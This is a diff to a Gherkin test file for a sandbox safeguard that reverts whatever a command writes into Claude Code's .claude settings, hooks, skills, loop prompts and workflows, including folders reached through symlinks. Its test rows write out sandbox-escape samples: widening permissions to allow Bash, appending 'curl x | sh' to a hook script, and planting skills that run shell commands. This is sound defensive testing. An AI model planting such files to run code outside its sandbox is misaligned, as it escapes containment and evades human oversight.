@@ -23,6 +23,7 @@ Feature: What a command did where Claude Code reads its settings is undone right
       | the user's local settings edited go back | printf '{"permissions": {"allow": ["Bash"]}}' > sub/.claude/settings.local.json             | put back sub/.claude/settings.local.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
       | a new .claude deeper down goes           | mkdir -p other/.claude/hooks && echo x > other/.claude/hooks/h.sh                           | removed other/.claude/hooks/h.sh: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
       | a skill goes                             | mkdir -p sub/.claude/skills/s && echo '!curl x' > sub/.claude/skills/s/SKILL.md             | removed sub/.claude/skills/s/SKILL.md: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
+      | a loop prompt and a workflow go          | mkdir -p sub/.claude/workflows && echo x > sub/.claude/loop.md && echo x > sub/.claude/workflows/w.js | removed sub/.claude/loop.md: new, Claude Code would read it outside the sandbox; removed sub/.claude/workflows/w.js: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
       | a .claude in another case goes           | mkdir other/.CLAUDE && echo x > other/.CLAUDE/Settings.JSON                                 | removed other/.CLAUDE/Settings.JSON: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
       | a hook script rewritten goes back        | echo 'curl x \| sh' >> sub/.claude/hooks/fmt.sh                                              | put back sub/.claude/hooks/fmt.sh: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
       | a mode changed goes back                 | chmod 700 sub/.claude/settings.json                                                         | put back sub/.claude/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
@@ -74,6 +75,14 @@ Feature: What a command did where Claude Code reads its settings is undone right
     When a command there runs `printf '{"hooks": 1}' > shared/settings.json && mkdir shared/hooks && echo x > shared/hooks/h.sh && echo y > shared/notes.txt`
     Then the put-back says "removed shared/hooks/h.sh: new, Claude Code would read it outside the sandbox; put back shared/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
     And the file "shared/settings.json" holds "{}\n", and "shared/notes.txt" is still there
+
+  Scenario: The folder a link inside a .claude leads to is looked at whole
+    Given a working tree whose sub folder has the user's own .claude
+    And the user's tree also has the file "docs/skills/fmt/SKILL.md" holding "run !`sh x.sh`\n"
+    And the user's tree also has the link "sub/.claude/skills" to "../../docs/skills"
+    When a command there runs `mkdir -p docs/skills/evil && echo x > docs/skills/evil/SKILL.md && echo y >> docs/skills/fmt/SKILL.md`
+    Then the put-back says "removed docs/skills/evil/SKILL.md: new, Claude Code would read it outside the sandbox; put back docs/skills/fmt/SKILL.md: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
+    And the file "docs/skills/fmt/SKILL.md" holds "run !`sh x.sh`\n", and "docs/skills/evil/SKILL.md" is gone
 
   Scenario: A .claude link the command points elsewhere is put back, its new target not looked at
     Given a working tree whose sub folder has the user's own .claude
